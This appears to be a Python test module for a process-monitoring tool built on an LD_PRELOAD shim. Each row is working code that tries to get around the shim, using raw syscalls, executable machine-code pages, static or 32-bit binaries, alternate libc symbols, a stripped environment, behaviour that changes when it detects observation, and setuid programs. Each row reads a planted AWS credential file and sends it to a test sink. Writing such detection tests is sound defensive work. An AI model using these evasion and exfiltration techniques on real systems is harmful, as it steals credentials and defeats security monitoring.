"""Section I: around the preload shim.  The act is the same in each row: read ~/.aws/ID and connect to the sink."""
from __future__ import annotations

import base64
import platform
import re
import shutil
import subprocess

from ..kit import Effect, Event, Row, loot

MACHINE = platform.machine()
CHILD = "import pwkit\npwkit.loot(pwkit.read(pwkit.target('secret')))\n"
# By the machine's own system call, whatever its number is there.
CALLS = {"x86_64": {"openat": 257, "read": 0, "socket": 41, "connect": 42, "write": 1}, "aarch64": {"openat": 56, "read": 63, "socket": 198, "connect": 203, "write": 64}}
# call(number, five arguments) as machine code.
TRAMPOLINE = {"x86_64": "4889f84889f74889d64889ca4d89c24d89c80f05c3", "aarch64": "e80300aae00301aae10302aae20303aae30304aae40305aa010000d4c0035fd6"}

BY_CALL = '''
import ctypes, os, socket, struct, pwkit

def pair(call):
    """call(name, …): open, read, connect and write by other means than Python's."""
    buffer = ctypes.create_string_buffer(8192)
    fd = call("openat", -100, pwkit.target("secret").encode(), 0)
    size = call("read", fd, buffer, 8192) if fd >= 0 else 0
    data = buffer.raw[:size] if size > 0 else b"nothing"
    print("PWSAY", pwkit.target("id"), "open:", fd, flush=True)
    s = call("socket", 2, 1, 0)
    to = struct.pack("=H", 2) + struct.pack("!H", pwkit.target("sink_port")) + socket.inet_aton(pwkit.target("sink_host")) + bytes(8)
    call("connect", s, to, 16)
    data = b"PWFIX " + pwkit.target("id").encode() + b" " + data
    call("write", s, data, len(data))
    if size > 0:
        pwkit.loot(data)
'''


def secret(world, row) -> dict:
    return {"secret": str(world.plant(f"home/.aws/{row.id}"))}


def also(**more):
    """secret(), and more targets by name: values, or functions of the world."""
    def setup(world, row):
        return {**secret(world, row), **{k: v(world) if callable(v) else v for k, v in more.items()}}
    return setup


def read_refused() -> Event:
    return Event("file.aws", "file.open", {"path": "{home}/.aws/{id}"}, "critical")


def connect_refused(severity: str = "info") -> Event:
    return Event("net.*", ("net.connect", "net.socket"), {}, severity)


BOTH = (read_refused(), connect_refused())


def program(*command: str, source: str):
    """A program that is made here and shipped as text: base64, with a line break so that it is no C act's target."""
    def make(world) -> str:
        if not shutil.which(command[0]):
            return ""
        path = world.root / "made"
        subprocess.run([*command, "-o", path, "-x", "c", "-"], input=source.encode(), check=True, timeout=60)
        return "\n" + base64.b64encode(path.read_bytes()).decode()
    return make


RUN_MADE = '''
import base64, os, subprocess, pwkit

def run_made(name):
    if not pwkit.target(name):
        return pwkit.say("there is no " + name)
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "pwfix-" + pwkit.target("id") + name)
    with open(path, "wb") as f:
        f.write(base64.b64decode(pwkit.target(name)))
    os.chmod(path, 0o755)
    try:
        p = subprocess.run([path, pwkit.target("secret"), pwkit.target("sink_host"), str(pwkit.target("sink_port")), pwkit.target("id")],
                           stdout=subprocess.PIPE, timeout=20)
        pwkit.say("%s: %s" % (name, p.returncode))
        if p.stdout:
            pwkit.loot(p.stdout)
    except OSError as e:
        pwkit.say("%s: %s" % (name, e))
    os.unlink(path)
'''

# Reads, prints, connects, sends: for another libc than ours.
LEAKS = r'''
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
	char text[4096];
	int fd = open(argv[1], O_RDONLY), s = socket(AF_INET, SOCK_STREAM, 0);
	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text);
	inet_pton(AF_INET, argv[2], &to.sin_addr);
	write(1, text, n);
	if (connect(s, (struct sockaddr *)&to, sizeof to) == 0)
		dprintf(s, "PWFIX %s %.*s", argv[4], (int)n, text);
	return argc != 5;
}
'''

# No C library of 32 bits is needed: open, read, write by int 0x80.
I386 = r'''
static int call(int n, long a, long b, long c)
{
	int r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
	return r;
}
void _start(void);
__attribute__((naked)) void _start(void)
{
	__asm__("mov %esp, %eax\n push %eax\n call begin\n");
}
__attribute__((used)) void begin(char **stack)
{
	static char text[4096];
	int fd = call(5, (long)stack[2], 0, 0), n = call(3, fd, (long)text, sizeof text);
	if (n > 0)
		call(4, 1, (long)text, n);
	call(1, 0, 0, 0);
}
'''


def no_gain(world, row, result) -> str:
    """`passwd -S` tells when the password was changed, which only root may read."""
    told = re.compile(rf"\b{world.user.name} (L|P|NP) \d+".encode())
    return next((f"passwd said: {m[0].decode()}" for d in world.looted(row, result) if (m := told.search(d))), "")


ROWS = [
    Row("ES-01", "a child with an empty environment", "metadata", """
        import ctypes, os, subprocess, sys, pwkit
        child = pwkit.here("child.py")
        argv = (ctypes.c_char_p * 3)(sys.executable.encode(), child.encode(), None)
        for how in ("syscall", "execve"):
            if os.fork() == 0:
                libc = ctypes.CDLL(None)
                libc.execve(argv[0], argv, None) if how == "execve" else libc.syscall({"x86_64": 59, "aarch64": 221}[os.uname().machine], argv[0], argv, None)
                os._exit(9)
            os.wait()
        subprocess.run(["env", "-i", sys.executable, child])
        subprocess.run([sys.executable, child], env={})
        """, loot(), (*BOTH, Event("file.aws", more={"shim": "absent"})), setup=secret, files={"child.py": CHILD}),
    Row("ES-02", "LD_PRELOAD taken away", "metadata", """
        import os, subprocess, sys, pwkit
        run = [sys.executable, pwkit.here("child.py")]
        subprocess.run(["sh", "-c", 'unset LD_PRELOAD; "$@"; LD_PRELOAD= "$@"; LD_PRELOAD=/nowhere.so "$@" 2>/dev/null; env -u LD_PRELOAD "$@"', "sh", *run])
        os.environ.pop("LD_PRELOAD", None)
        subprocess.run(run)
        """, loot(), BOTH, setup=secret, files={"child.py": CHILD}),
    Row("ES-03", "static programs, and one for musl", "build", RUN_MADE + """
pwkit.native("pair")
run_made("musl")
""", loot(), (*BOTH, Event("file.aws", more={"shim": "absent"})), native="pair",
        setup=also(musl=program("musl-gcc", "-static", "-O1", "-s", "-w", source=LEAKS))),
    Row("ES-04", "system calls through ctypes", "import", BY_CALL + f"""
numbers = {CALLS.get(MACHINE)}
libc = ctypes.CDLL(None)
pair(lambda name, *args: libc.syscall(numbers[name], *args))
""", loot(), BOTH, setup=secret),
    Row("ES-05", "system call instructions in an extension, and in its constructor", "import", """
        import importlib.machinery, pwkit
        loader = importlib.machinery.ExtensionFileLoader("pwnative", pwkit.here("pwnative.so"))
        pwkit.attempt(loader.create_module, importlib.machinery.ModuleSpec("pwnative", loader, origin=pwkit.here("pwnative.so")))
        """, loot(), BOTH, native="extension", setup=also(extension="1")),
    Row("ES-06", "machine code in a page that is written to", "import", BY_CALL + f"""
import mmap
numbers, code = {CALLS.get(MACHINE)}, bytes.fromhex("{TRAMPOLINE.get(MACHINE, '')}")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p)(
    ctypes.addressof(ctypes.c_char.from_buffer(page)))
def call(name, *args):
    keep = [ctypes.create_string_buffer(a) if isinstance(a, bytes) else a for a in args] + [0] * (5 - len(args))
    return function(numbers[name], *[a if isinstance(a, int) else ctypes.addressof(a) for a in keep])
pair(call)
""", loot(), BOTH, setup=secret, note="" if MACHINE in TRAMPOLINE else "no baseline: no machine code for this processor"),
    Row("ES-07", "a libc of its own, by copy and by namespace", "import", BY_CALL + """
import re, shutil
def by(library):
    library.open.restype = ctypes.c_int
    return lambda name, *args: library.open(args[1], args[2]) if name == "openat" else getattr(library, name)(*args)
path = next(m[1] for m in re.finditer(r"(/\\S*/libc\\.so\\.6|/\\S*/libc-2\\S*\\.so)\\n", open("/proc/self/maps").read()))
class Namespace:
    def __init__(self, handle):
        self.handle = handle
    def __getattr__(self, name):
        return ctypes.CDLL(None, handle=self.handle)[name]
copy = os.path.join(os.environ.get("TMPDIR", "/tmp"), "pwfix-l-%d.so" % os.getpid())
shutil.copy(path, copy)
dlmopen = ctypes.CDLL(None).dlmopen
dlmopen.restype = ctypes.c_void_p
for file in (b"libc.so.6", copy.encode()):
    handle = dlmopen(ctypes.c_long(-1), file, 2)
    pair(by(Namespace(handle))) if handle else pwkit.say("dlmopen: no")
os.unlink(copy)
""", loot(), BOTH, setup=secret),
    Row("ES-08", "libc's other names for the same calls", "import", BY_CALL + """
libc = ctypes.CDLL(None)
def has(*names):
    return [libc[n] for n in names if hasattr(libc, n)]
for opens in has("__open_2", "__open64_2", "open", "open64", "__open", "__open64", "creat64"):
    for connects in has("connect", "__connect"):
        def call(name, *args):
            return opens(args[1], 0) if name == "openat" else connects(*args) if name == "connect" else getattr(libc, name)(*args)
        pair(call)
for at in has("__openat_2", "__openat64_2", "openat64"):
    pair(lambda name, *args: at(-100, args[1], 0) if name == "openat" else getattr(libc, name)(*args))
for stream in has("fopen", "fopen64"):
    stream.restype = ctypes.c_void_p
    f, buffer = stream(pwkit.target("secret").encode(), b"r"), ctypes.create_string_buffer(4096)
    if f and libc.fread(buffer, 1, 4096, ctypes.c_void_p(f)) > 0:
        pwkit.loot(buffer.value)
""", loot(), BOTH, setup=secret),
    Row("ES-09", "dlvsym, RTLD_NEXT, RTLD_DEEPBIND, LD_AUDIT", "import", BY_CALL + """
import subprocess, sys
libc = ctypes.CDLL(None)
libc.dlvsym.restype = libc.dlsym.restype = ctypes.c_void_p
prototype = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_char_p, ctypes.c_int)
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)
handle = ctypes.CDLL("libc.so.6", mode=8)._handle  # RTLD_DEEPBIND
for find in (lambda n: libc.dlvsym(ctypes.c_void_p(handle), n, b"GLIBC_2.2.5") or libc.dlvsym(ctypes.c_void_p(handle), n, b"GLIBC_2.17"),
             lambda n: libc.dlsym(ctypes.c_void_p(handle), n), lambda n: libc.dlsym(ctypes.c_void_p(-1), n)):
    where = {n: find(n.encode()) for n in ("open", "connect")}
    if all(where.values()):
        pair(lambda name, *args: opened(where["open"])(args[1], 0) if name == "openat" else
             prototype(where["connect"])(*args) if name == "connect" else getattr(libc, name)(*args))
for env in ({"LD_BIND_NOW": "1"}, {"LD_AUDIT": pwkit.here("pwnative.so")}):
    subprocess.run([sys.executable, pwkit.here("child.py")], env={**os.environ, **env}, stderr=subprocess.DEVNULL)
""", loot(), BOTH, native="pair", setup=secret, files={"pwfix_es09/child.py": CHILD}),
    Row("ES-10", "the shim torn out of the process", "import", """
        import pwkit
        pwkit.native("tear_out", library=True)
        """, loot(), BOTH, native="tear_out", setup=secret),
    Row("ES-11", "behaves where it sees that it is watched", "metadata", """
        import os, pwkit
        status = open("/proc/self/status").read()
        watched = "pipwarden" in str(os.environ) or "libpipwarden" in open("/proc/self/maps").read() or "Seccomp:\\t2" in status or "TracerPid:\\t0" not in status
        pwkit.say("watched: %s" % watched)
        if not watched:
            pwkit.loot(pwkit.read(pwkit.target("secret")))
        """, loot(), None, setup=secret),
    Row("ES-14", "every descriptor closed", "metadata", """
        import os, pwkit
        for closes in (lambda: os.closerange(3, 65536), lambda: __import__("ctypes").CDLL(None).syscall(436, 3, 0xffffffff, 4),
                       lambda: [os.dup2(os.open(os.devnull, os.O_RDWR), n) for n in range(3, 40)]):
            pwkit.attempt(closes)
            pwkit.loot(pwkit.read(pwkit.target("secret")))
        """, loot(), BOTH, setup=secret),
    Row("ES-16", "arguments and threads that break fragile shims", "import", """
        import pwkit
        pwkit.native("fragile", library=True)
        pwkit.native("fragile")
        """, loot(), BOTH, native="fragile", setup=secret),
    Row("ES-17", "other interpreters, subinterpreters, forkserver", "metadata", """
        import os, shutil, subprocess, sys, pwkit
        child = pwkit.here("child.py")
        subprocess.run([sys.executable, "-S", "-E", child])
        subprocess.run([sys.executable, "-I", "-S", "-E", "-c", "import sys; sys.path.insert(0, %r); import child" % os.path.dirname(child)])
        if shutil.which("pypy3"):
            subprocess.run(["pypy3", child])
        os.waitpid(os.posix_spawn(sys.executable, [sys.executable, child], {}), 0)
        try:
            import _xxsubinterpreters as inner
        except ImportError:
            import _interpreters as inner
        pwkit.attempt(inner.run_string, inner.create(), "import sys; sys.path.insert(0, %r)\\nimport child" % os.path.dirname(child))
        subprocess.run([sys.executable, pwkit.here("forked.py")])
        """, loot(), BOTH, setup=secret, files={"child.py": CHILD, "forked.py": """
import multiprocessing, pwkit

def steal():
    pwkit.loot(pwkit.read(pwkit.target("secret")))

if __name__ == "__main__":
    p = multiprocessing.get_context("forkserver").Process(target=steal)
    p.start()
    p.join(20)
"""}),
    Row("ES-18", "a set-user-id program, for which the loader drops the shim", "metadata", """
        import subprocess, pwkit
        for command in (["passwd", "-S"], ["su", "-c", "cat /etc/shadow"], ["sh", "-c", "ping -c1 -W1 127.0.0.1"]):
            p = pwkit.attempt(subprocess.run, command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20)
            if p is not None and p.returncode == 0:
                pwkit.loot(p.stdout)
        """, Effect.call(no_gain), Event("exec.recorded", "exec", {"path": "*/passwd"}, action="allowed"), needs=("passwd",),
        note="no baseline (user): where passwd tells its caller no more than it may know itself"),
    Row("ES-20", "a program of 32 bits, into which no shim fits", "build", RUN_MADE + """
run_made("i386")
""", loot(), Event(("syscall.foreign-abi", "exec.recorded"), ("syscall.denied", "exec"), action=("denied", "allowed")),
        setup=also(i386=program("gcc", "-m32", "-static", "-nostdlib", "-fno-pic", "-fno-stack-protector", "-O1", "-w", source=I386)),
        note="no baseline: this kernel runs no programs of 32 bits" if MACHINE == "x86_64" else "no baseline: this processor runs no programs of 32 bits"),
]
